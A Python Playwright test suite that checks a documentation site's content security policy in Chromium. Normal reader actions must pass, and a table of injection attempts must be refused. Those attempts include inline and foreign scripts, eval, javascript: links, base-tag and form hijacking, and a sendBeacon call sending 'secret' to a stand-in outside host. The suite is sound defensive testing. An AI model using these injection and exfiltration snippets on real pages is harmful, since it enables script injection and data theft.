"""The content security policy in a real Chromium: in nobody's way, and it bites."""

from __future__ import annotations

import functools
from typing import Any

import pytest
from generator.policy import with_policy

from tests.reader import publish, settle
from tests.trees import addresses

LESSON = "learn/two-tasks-at-once/"
SHORT = "exercises/"
"""A page that is soon there, to plant something on."""

ELSEWHERE = "http://elsewhere.example/"

LOAD = """\
() => new Promise((resolve, reject) => {
  const script = document.createElement("script");
  Object.assign(script, { src: "/probe.js", onload: resolve, onerror: reject });
  document.body.append(script);
})
"""

PROBE = """\
const root = document.documentElement;
const add = (name, values) =>
  document.body.appendChild(Object.assign(document.createElement(name), values));
"""

HARMFUL = {
    "inline script": ("script-src-elem", "add('script', {text: 'bitten = 1'})"),
    "foreign script": ("script-src-elem", "add('script', {src: there})"),
    "eval": ("script-src", "try { eval('bitten = 1') } catch {}"),
    "handler": (
        "script-src-attr",
        "add('p', {}).setAttribute('onclick', 'bitten = 1');"
        "document.body.lastChild.click()",
    ),
    "link": ("script-src-elem", "add('a', {href: 'javascript:bitten = 1'}).click()"),
    "worker": ("worker-src", "new Worker(URL.createObjectURL(new Blob(['1'])))"),
    "inline style": (
        "style-src-elem",
        "add('style', {textContent: 'html { --bitten: 1 }'})",
    ),
    "style attribute": ("style-src-attr", "root.setAttribute('style', '--bitten: 1')"),
    "foreign style": (
        "style-src-elem",
        "add('link', {rel: 'stylesheet', href: there})",
    ),
    "foreign image": ("img-src", "add('img', {src: there})"),
    "foreign font": ("font-src", "new FontFace('x', `url(${there})`).load()"),
    "foreign film": ("media-src", "add('video', {src: there})"),
    "fetch": ("connect-src", "fetch(there).catch(() => 0)"),
    "beacon": ("connect-src", "navigator.sendBeacon(there, 'secret')"),
    "frame": ("frame-src", "add('iframe', {src: there})"),
    "object": ("object-src", "add('object', {data: there})"),
    "base": ("base-uri", "add('base', {href: there})"),
    "form": ("form-action", "add('form', {action: there}).submit()"),
}
"""What the policy refuses: the directive that does, and how a script tries it."""

HARMLESS = {
    "style of an element": "root.style.setProperty('--harmless', 1)",
    "data image": "add('img', {src: 'data:image/gif;base64,R0lGODlhAQABAAAAADs='})",
    "own file": "fetch('/search/search_index.json')",
    "WebAssembly": "new WebAssembly.Module(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0))",
}

SCRIPTS = {
    "plain": 'document.title = "ran"',
    "lines": '\r\n\n\tconst a = 1;\r  document.title = "ran";\r\n',
    "signs": 'const a = "</b> &amp; &lt; <!-- é \U0001f388"; document.title = "ran"',
}


def use(page: Any) -> None:
    """Switch colours, copy a program, step through a picture, scroll."""
    settle(page)
    for number in (1, 2, 0):
        page.locator(f"label[for=__palette_{number}]").click()
    for copy in page.locator(".example-program button:visible").all()[:1]:
        copy.click()
        page.locator(".md-dialog--active").wait_for()
    for start in page.locator(".timeline-start:visible").all()[:1]:
        start.click()
        page.locator(".timeline-controls").wait_for()
        page.locator(".timeline-next").click()
        page.keyboard.press("End")
    page.mouse.wheel(0, 3000)
    page.mouse.wheel(0, -500)


def search(page: Any) -> None:
    if page.viewport_size["width"] < 400:
        page.locator("header > nav > label[for=__search]").click()
    else:
        page.keyboard.press("/")
    page.keyboard.type("cancel")
    page.locator(".md-search-result__item a").first.wait_for()
    page.keyboard.press("Enter")
    page.locator("mark").first.wait_for(state="attached")


@pytest.mark.parametrize("width", [360, 1440])
def test_nothing_that_a_reader_uses_is_refused_or_asked_of_others(
    page: Any,
    address: str,
    refused: list[str],
    complaints: list[str],
    asked: list[str],
    width: int,
) -> None:
    """On some pages: each has the same scripts, and is in ``test_every_page.py``."""
    page.set_viewport_size({"width": width, "height": 800})
    for path in [*addresses()[::12], "404.html"]:
        if path == "404.html":
            publish(page, address)
        page.goto(address + path)
        use(page)
        assert (refused, complaints) == ([], []), path
    assert [url for url in asked if not url.startswith((address, "data:"))] == []


@pytest.mark.parametrize("width", [360, 1440])
@pytest.mark.parametrize("path", [LESSON, "404.html"])
def test_search_works(
    page: Any,
    address: str,
    refused: list[str],
    complaints: list[str],
    path: str,
    width: int,
) -> None:
    page.set_viewport_size({"width": width, "height": 800})
    publish(page, address)
    page.goto(address + path)
    search(page)
    assert "Cancel a Task" in page.locator("h1").inner_text()
    assert (refused, complaints) == ([], [])


def test_drawer_works(
    page: Any, address: str, refused: list[str], complaints: list[str]
) -> None:
    page.set_viewport_size({"width": 360, "height": 800})
    page.goto(address)
    drawer = page.locator(".md-nav--primary")
    page.locator("header label[for=__drawer]").click()
    drawer.get_by_role("link", name="Learn", exact=True).click()
    page.wait_for_url("**/learn/what-is-a-task/")
    page.locator("header label[for=__drawer]").click()
    drawer.get_by_role("link", name="Cancel a Task").click()
    page.wait_for_url("**/learn/cancel-a-task/")
    assert (refused, complaints) == ([], [])


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_browser_runs_a_script_with_its_hash_and_no_other(
    page: Any, address: str, refused: list[str], name: str
) -> None:
    script = SCRIPTS[name]
    html = with_policy(f"<meta charset=utf-8><title>-</title><script>{script}</script>")
    files = {"as-written": html, "changed": html.replace('"ran"', '"RAN"')}
    for file, text in files.items():
        answer = {"body": text.encode(), "content_type": "text/html"}
        page.route(address + file, functools.partial(fulfil, answer))
    page.goto(f"{address}as-written")
    assert page.title() == "ran"
    assert refused == []
    page.goto(f"{address}changed")
    assert page.title() == "-"
    assert soon(page, refused) == ["script-src-elem inline"]


def fulfil(answer: dict[str, Any], route: Any) -> None:
    route.fulfill(**answer)


def soon(page: Any, found: list[str]) -> list[str]:
    """What is found once something is, or once it is clear that nothing will be."""
    for _ in range(30):
        page.wait_for_timeout(100)
        if found:
            break
    return found


def probe(page: Any, address: str, code: str) -> None:
    """Run ``code`` as a file of the site: what tests evaluate has no policy."""
    body = f"{PROBE}const there = '{ELSEWHERE}';\n{code}"
    answer = {"body": body, "content_type": "text/javascript"}
    page.route(f"{address}probe.js", functools.partial(fulfil, answer))
    page.goto(address + SHORT)
    page.evaluate(LOAD)


@pytest.mark.parametrize("name", HARMFUL)
def test_what_does_not_belong_to_the_site_is_refused(
    page: Any, address: str, refused: list[str], name: str
) -> None:
    directive, code = HARMFUL[name]
    sent: list[str] = []
    page.route(f"{ELSEWHERE}**", lambda route: sent.append(route.request.url))
    probe(page, address, code)
    assert [one.split()[0] for one in soon(page, refused)] == [directive]
    assert sent == []
    assert page.evaluate("typeof bitten") == "undefined"
    bitten = "getComputedStyle(document.documentElement).getPropertyValue('--bitten')"
    assert page.evaluate(bitten) == ""
    assert page.evaluate("document.baseURI") == address + SHORT


@pytest.mark.parametrize("name", HARMLESS)
def test_what_the_site_needs_is_allowed(
    page: Any, address: str, refused: list[str], complaints: list[str], name: str
) -> None:
    probe(page, address, HARMLESS[name])
    page.wait_for_timeout(200)
    assert (refused, complaints) == ([], [])
